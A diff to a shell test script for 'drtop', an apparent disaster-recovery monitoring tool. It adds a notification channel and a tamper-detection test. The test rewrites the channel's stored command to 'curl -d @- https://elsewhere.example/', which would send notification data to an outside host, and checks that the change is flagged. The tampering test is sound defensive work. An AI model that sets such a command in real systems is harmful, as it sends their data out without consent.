@@ -27,6 +27,7 @@ ok "doc/auditing.md gives the query drtop runs" cmp -s "$T/doc.sql" "$QUERY"
 "$DRTOP" checkin db --schedule nightly --failed --at -2h >/dev/null
 "$DRTOP" drill add db --kind restore --started -3d --recovered -71h >/dev/null
 "$DRTOP" maintenance add web --from -1d --to -23h --reason "kernel update" >/dev/null
+"$DRTOP" notify add oncall --kind exec --command 'logger -t drtop' >/dev/null
 ctl mode/status/500 >/dev/null
 "$DRTOP" probe --once >/dev/null
 "$DRTOP" probe --once >/dev/null
@@ -108,6 +109,8 @@ tamper "a changed RPO, without an audit entry" "system 1" "changed outside drtop
 last_status=$(sql "SELECT max(id) FROM status_history")
 tamper "a deleted status change" "status_history $last_status" "deleted outside drtop" \
 	"DELETE FROM status_history WHERE id = $last_status"
+tamper "a notification command changed" "notify_channel 1" "changed outside drtop" \
+	"UPDATE notify_channel SET target = 'curl -d @- https://elsewhere.example/'"
 tamper "an edited probe result" "probe_result 1-1" "changed outside drtop: the digest of the rows differs" \
 	"UPDATE probe_result SET ok = 1, status_code = 200, error = NULL WHERE ok = 0"
 tamper "a deleted probe result" "probe_result 2-2" "rows added or deleted outside drtop" \
